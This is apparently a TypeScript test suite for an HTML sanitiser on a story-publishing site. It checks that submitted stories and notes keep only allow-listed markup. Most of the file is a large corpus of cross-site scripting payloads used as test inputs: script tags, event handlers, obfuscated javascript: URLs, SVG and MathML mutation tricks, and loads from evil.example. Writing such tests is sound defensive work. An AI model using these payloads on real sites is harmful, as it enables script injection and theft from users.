import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { Element } from "hast";
import { cleanNote, cleanStory } from "./clean.ts";
import type { Content } from "./elements.ts";
import { parseHtml } from "./parse-html.ts";
import { sanitiseStory } from "./sanitise.ts";
import { serialiseStory } from "./serialise.ts";

/* Written out here a second time on purpose: a slip in the allow-list must not also slip through its test. */
const allowedElements = new Set(
  (
    "a abbr aside b bdi blockquote br caption cite code dd details dl dt em figcaption figure h3 h4 h5 h6 hr img li ol p pre q " +
    "rp rt ruby s small span strong sub summary sup table tbody td th thead time tr u ul"
  ).split(" "),
);
const allowedProperties = new Set(
  "alt ariaLabel className colSpan dataOrnament dir height href id lang role rowSpan scope src start title type width".split(
    " ",
  ),
);
const allowedClass =
  /^(center|right|verse|sc|voice-[1-9]|in[1-4]|mode-[a-z]{1,30}|letter|chat|post|picture|scene|footnote|noteref|noteback)$/;
const allowedHref = /^(https?:\/\/[^\s]|mailto:|\/(?![/\\])|#note(ref)?-\d{1,4}$)/;

const attacks = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=http://evil.example/x.js></SCRIPT>
<script/src=data:,alert(1)>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script x>alert(1)</script
<script>a=1<!--<script></script>--></script><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" alt="a">
<img/src=x/onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<img """><script>alert("XSS")</script>">
<img src=javascript:alert(1) alt=x>
<img src="jav&#x09;ascript:alert(1);" alt=x>
<img src="jav&#x0A;ascript:alert(1);" alt=x>
<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1) alt=x>
<img srcset="javascript:alert(1) 1x, http://evil.example/a.png 2x" alt=x>
<img dynsrc="javascript:alert(1)"><img lowsrc="javascript:alert(1)">
<image src=x onerror=alert(1)>
<picture><source srcset=x onerror=alert(1)><img src=x onerror=alert(1)></picture>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" &#14;  javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&NewLine;script&colon;alert&lpar;1&rpar;">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="javascript://evil.example/%0aalert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:x">x</a><a href="mocha:x">x</a><a href="about:blank">x</a>
<a href="blob:https://x/y">x</a><a href="file:///etc/passwd">x</a><a href="filesystem:x">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="\javascript:alert(1)">x</a>
<a href="//evil.example">x</a><a href="/\evil.example">x</a><a href="\\evil.example">x</a>
<a href="http:javascript:alert(1)">x</a>
<a href="https://x/" onclick=alert(1) target=_blank ping=http://evil.example rel=opener download>x</a>
<a href="https://x/"onmouseover="alert(1)">x</a>
<a href='https://x/"onmouseover="alert(1)'>x</a>
<a href="https://x/" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<p onclick=alert(1) onfocus=alert(1) tabindex=0 autofocus contenteditable>x</p>
<p/onclick=alert(1)>x</p>
<p onclick&#61;alert(1)>x</p>
<p ONMOUSEOVER=alert(1)>x</p>
<p
onmouseover
=
alert(1)>x</p>
<details open ontoggle=alert(1)><summary onclick=alert(1)>s</summary>x</details>
<em onanimationstart=alert(1) onpointerrawupdate=alert(1)>x</em>
<body onload=alert(1)>x
<html onmouseenter=alert(1)>x
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script xlink:href=data:,alert(1) />
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<svg><desc><table><svg><title><style><img title="</style><img src onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><p onclick=alert(1)>x</annotation-xml></math>
<math><style><img src=x onerror=alert(1)></style></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>
<style>@import "http://evil.example/x.css";</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<xmp></xmp><img src=x onerror=alert(1)></xmp>
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<template><img src=x onerror=alert(1)></template>
<template><s><template><img src=x onerror=alert(1)></s></template></template>
<select><style></select><img src=x onerror=alert(1)></style>
<select><option><iframe></select><img src=x onerror=alert(1)></iframe>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe srcdoc='<script>parent.alert(1)</script>'>
<object data=javascript:alert(1)></object>
<object type=text/html data="data:text/html,<script>alert(1)</script>"><p onclick=alert(1)>x</object>
<embed src=javascript:alert(1)>
<applet code=Evil.class><param name=x value=y></applet>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<META HTTP-EQUIV="Set-Cookie" Content="a=b">
<base href="javascript:alert(1)//"><a href="/x">x</a>
<link rel=stylesheet href=javascript:alert(1)>
<link rel=import href=http://evil.example>
<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>x</button></form>
<input autofocus onfocus=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<button form=f formaction=javascript:alert(1)>x</button>
<video src=x onerror=alert(1)><source onerror=alert(1)></video>
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)>
<track src=javascript:alert(1)>
<marquee onstart=alert(1)>x</marquee>
<bgsound src=javascript:alert(1)>
<layer src=http://evil.example></layer>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="-moz-binding:url(http://evil.example/x.xml#xss)">x</p>
<p style="b\65 havior:url(x.htc)">x</p>
<p style='font-style:italic;"><img src=x onerror=alert(1)>'>x</p>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)" onclick=alert(1)>x</table>
<table><caption><svg onload=alert(1)></caption><tr><td>x</table>
<table><td><img src=x onerror=alert(1)></td></table>
<blockquote cite="javascript:alert(1)">x</blockquote><q cite="javascript:alert(1)">y</q>
<p id=documentElement name=cookie>x</p>
<a id=config name=url href="https://x/">x</a><a id=config href="https://y/">y</a>
<form id=document name=getElementById><input name=attributes></form>
<p class="center flash admin-notice in5 voice-0 voice-10 mode-A">x</p>
<span class="sc&#x20;evil">x</span>
<hr class="scene evil" data-ornament='"><img src=x onerror=alert(1)>' data-x=1>
<pre role=button aria-label='"><script>alert(1)</script>'>x</pre>
<p lang='"><script>alert(1)</script>' dir='"><script>alert(1)</script>'>x</p>
<abbr title='"><img src=x onerror=alert(1)>'>x</abbr>
<abbr title="&quot; onmouseover=&quot;alert(1)">x</abbr>
<ol start='1" onclick="alert(1)' type='"><script>'><li value='"><script>'>x</ol>
<td colspan='99999999' rowspan='"><script>'>x
<ruby onclick=alert(1)>x<rt onclick=alert(1)><img src=x onerror=alert(1)></ruby>
<p is=evil-element slot=x part=y itemprop=z>x</p>
<evil-element onclick=alert(1)>x</evil-element>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<script>alert(1)</script>]]>
<!doctype html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<![><img src=x onerror=alert(1)>
</ ><img src=x onerror=alert(1)>
<p title="x" title="><img src=x onerror=alert(1)>">x</p>
<p title='x"><img src=x onerror=alert(1)>
<img src="xGRAVE onerror=alert(1)
<IMG SRC=x oNeRrOr=alert(1)//
<<script>alert(1);//<</script>
<b <script>alert(1)</script>>x</b>
<b/alt="1"onmouseover=alert(1)>x</b>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
¼script¾alert(1)¼/script¾
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
<a href="https://x/?a=&quot;><script>alert(1)</script>">x</a>
<a href=https://x/?<script>alert(1)</script>>x</a>
<a href="https://x/"><table><a href="javascript:alert(1)">x</a></table></a>
<p><table><p><form><p></table><img src=x onerror=alert(1)>
<b><p><i></b><a href="javascript:alert(1)">x</i></p>
<span datasrc=#x dataformatas=html>x</span>
<p xml:base="javascript:alert(1)//" xmlns="http://www.w3.org/2000/svg">x</p>
<a id=noteref-1 href="https://x/">x</a><p id=note-1>x</p><aside id=note-1>y</aside><a name=note-1>z</a>
<a class=noteref id="noteref-1 x" href="#note-1">1</a><aside class=footnote id=note-1>y</aside>
<a class=noteref id=config href="#note-1" onclick=alert(1)>1</a><aside class=footnote id="note-1">y</aside>
<a class=noteref href="javascript:alert(1)">1</a><a class=noteback href="#noteref-1">1</a>
<a class=noteref href="#note-99999">1</a><a class=noteref href="#top">1</a><a href="#note-1">1</a>
<aside class=footnote id="note-1 onclick=alert(1)"><a class=noteback href="#noteref-1'onclick=alert(1)">1</a></aside>
<img src="/pictures/../../x.png" alt=x><img src="/pictures/aa.svg" alt=x><img src="//pictures/x.png" alt=x>
<img src="/pictures/PICTURE.svg" alt=x><img src="/pictures/PICTURE.png?x" alt=x><img src="/pictures/PICTURE.png#x" alt=x>
<img src="/pictures/PICTURE.png" onerror=alert(1) srcset="x 2x" width=100% height="1;x" alt='"><script>alert(1)</script>'>
<figure class="picture evil" id=x><img src="/pictures/PICTURE.png"><figcaption onclick=alert(1)>x</figcaption></figure>
<portal src=javascript:alert(1)></portal><fencedframe></fencedframe>
<keygen autofocus onfocus=alert(1)>
<dialog open onclose=alert(1)>x</dialog>
<map name=x><area href=javascript:alert(1)></map><img usemap=#x src=y alt=z>
`
  .replaceAll("GRAVE", "`")
  .replaceAll("PICTURE", "0123456789abcdef".repeat(4))
  .trim()
  .split(/\n(?=[<&+¼])/);

const unprintable = [
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<img src=x one\u0000rror=alert(1)>",
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\rscript:alert(1)">x</a>',
  "<p\u000conclick=alert(1)>x</p>",
  "<p title=\u00a0onclick=alert(1)>x</p>",
  "\ufeff<script>alert(1)</script>",
  "<\u017fcript>alert(1)</\u017fcript>",
  "<a href='\u2028javascript:alert(1)'>x</a>",
  "x\ud800<img src=x onerror=alert(1)>\udfff",
  `${"<b>".repeat(200)}<img src=x onerror=alert(1)>`,
];

describe("sanitising a story", () => {
  it("has a corpus worth the name", () => {
    assert.ok(new Set([...attacks, ...unprintable]).size >= 150);
  });

  for (const attack of [...attacks, ...unprintable]) {
    it(`leaves nothing but the allow-list of ${JSON.stringify(attack.slice(0, 100))}`, () => {
      for (const clean of [cleanStory, cleanNote]) {
        const stored = clean(attack);
        for (const node of parseHtml(stored).children) assertAllowed(node);
        assert.equal(clean(stored), stored, "reading the result again must not change it");
      }
      const untidied = serialiseStory(sanitiseStory(parseHtml(attack)));
      for (const node of parseHtml(untidied).children) assertAllowed(node);
    });
  }

  it("removes the content of what is not prose and unwraps everything else", () => {
    assert.equal(
      cleanStory("a<script>b</script><style>c</style><svg><text>d</text></svg><blink>e</blink>"),
      "<p>ae</p>",
    );
    assert.equal(cleanStory("<p>a<math><mi>x</mi></math><noscript>y</noscript>b</p>"), "<p>ab</p>");
  });

  it("keeps simple links and turns the others into their words", () => {
    assert.equal(
      cleanStory('<a href="HTTPS://Example.org/a?b=1&amp;c" rel="nofollow" target=_blank>x</a>'),
      '<p><a href="https://Example.org/a?b=1&amp;c">x</a></p>',
    );
    assert.equal(
      cleanStory('<a href="mailto:jo@example.org">x</a>'),
      '<p><a href="mailto:jo@example.org">x</a></p>',
    );
    assert.equal(cleanStory('<a href="/works/abc">x</a>'), '<p><a href="/works/abc">x</a></p>');
    assert.equal(cleanStory('<a href="chapter2.html">x</a>'), "<p>x</p>");
    assert.equal(
      cleanStory('<a href="//example.org/x">x</a>'),
      '<p><a href="https://example.org/x">x</a></p>',
    );
  });

  it("turns a picture into a link with its description", () => {
    assert.equal(
      cleanStory('<p><img src="https://example.org/a/cat.png" alt="A cat"></p>'),
      '<p><a href="https://example.org/a/cat.png">A cat</a></p>',
    );
    assert.equal(
      cleanStory('<a href="/x"><img src="https://example.org/c.png"></a>'),
      '<p><a href="/x">c.png</a></p>',
    );
    assert.equal(cleanStory('<p>a<img src="https://example.org/c.png" alt=""></p>'), "<p>a</p>");
  });

  it("says foreign markup in its own elements", () => {
    assert.equal(
      cleanStory("<i>a</i> <b>b</b> <strike>c</strike> <tt>d</tt> <ins>e</ins>"),
      "<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code> <u>e</u></p>",
    );
    assert.equal(cleanStory("<h1>One</h1><h2>Two</h2>"), "<h3>One</h3>\n<h4>Two</h4>");
    assert.equal(cleanStory('<p align="center">x</p>'), '<p class="center">x</p>');
    assert.equal(cleanStory("<center>x</center>"), '<p class="center">x</p>');
    assert.equal(
      cleanStory('<span style="font-variant: small-caps">Hello</span>'),
      '<p><span class="sc">Hello</span></p>',
    );
    assert.equal(
      cleanStory('<b style="font-weight:normal" id="x"><p><span style="font-weight:400">Hi.</span></p></b>'),
      "<p>Hi.</p>",
    );
  });

  it("keeps right-to-left text, joiners and ruby, and closes what was left open", () => {
    assert.equal(cleanStory('<p dir="rtl">שלום</p>'), '<p dir="rtl">שלום</p>');
    assert.equal(cleanStory("<p>می\u200cخواهم 👩\u200d👧</p>"), "<p>می\u200cخواهم 👩\u200d👧</p>");
    assert.equal(cleanStory("<ruby>海<rt>うみ"), "<p><ruby>海<rt>うみ</rt></ruby></p>");
  });

  it("never turns escaped text into markup", () => {
    assert.equal(
      cleanStory("&lt;b&gt; &amp;lt; I <3 you & me"),
      "<p>&lt;b&gt; &amp;lt; I &lt;3 you &amp; me</p>",
    );
  });

  it("gives notes the smaller allow-list without losing words", () => {
    assert.equal(
      cleanNote("<h1>Title</h1><table><tr><td>a</td><td>b</td></tr></table><hr data-ornament='***'>"),
      '<p><strong>Title</strong></p>\n<p>a b</p>\n<p class="center">***</p>',
    );
  });
});

function assertAllowed(node: Content): void {
  if (node.type === "text") return;
  assert.equal(node.type, "element");
  if (node.type !== "element") return;
  assert.ok(allowedElements.has(node.tagName), `<${node.tagName}>`);
  for (const name of Object.keys(node.properties)) assertProperty(node, name);
  for (const child of node.children) assertAllowed(child);
}

function assertProperty(node: Element, name: string): void {
  const value = node.properties[name];
  assert.ok(allowedProperties.has(name), `${node.tagName}[${name}]`);
  if (name === "className") {
    assert.ok(Array.isArray(value));
    for (const each of value) assert.match(String(each), allowedClass);
  }
  if (name === "id") assert.match(`${node.tagName} ${value}`, /^(a noteref|aside note)-[1-9]\d{0,3}$/);
  if (name === "src") assert.match(String(value), /^\/pictures\/[0-9a-f]{64}\.(png|jpg|gif|webp)$/);
  if (name === "width" || name === "height") assert.match(String(value), /^\d{1,5}$/);
  if (name === "href") assert.match(String(value), allowedHref);
  if (name === "dir") assert.match(String(value), /^(ltr|rtl|auto)$/);
  if (name === "lang") assert.match(String(value), /^[A-Za-z0-9-]+$/);
  if (name === "role") assert.equal(value, "img");
  if (/^(colSpan|rowSpan|start)$/.test(name)) assert.match(String(value), /^-?\d{1,6}$/);
}

describe("what an author says twice", () => {
  for (const [twice, once] of [
    ['<span class="sc" style="font-variant:small-caps">Hi</span>', '<span class="sc">Hi</span>'],
    ['<s style="text-decoration:line-through">Hi</s>', "<s>Hi</s>"],
    ['<del><span style="text-decoration:line-through">Hi</span></del>', "<s>Hi</s>"],
    ['<u style="text-decoration:underline">Hi</u>', "<u>Hi</u>"],
    ['<sup style="vertical-align:super">Hi</sup>', "<sup>Hi</sup>"],
    ['<sub style="vertical-align:sub">Hi</sub>', "<sub>Hi</sub>"],
    ['<em style="font-style:italic;font-weight:bold">Hi</em>', "<strong><em>Hi</em></strong>"],
    ['<b style="text-decoration:underline">Hi</b>', "<u><strong>Hi</strong></u>"],
  ] as const)
    it(`is said once: ${twice}`, () => assert.equal(cleanStory(`<p>${twice}</p>`), `<p>${once}</p>`));

  it("is said in a box whose own style nothing can say", () => {
    const said =
      '<blockquote style="text-decoration:line-through"><p><span style="text-decoration:line-through">Hi</span></p></blockquote>';
    assert.equal(cleanStory(said), "<blockquote><p><s>Hi</s></p></blockquote>");
  });
});
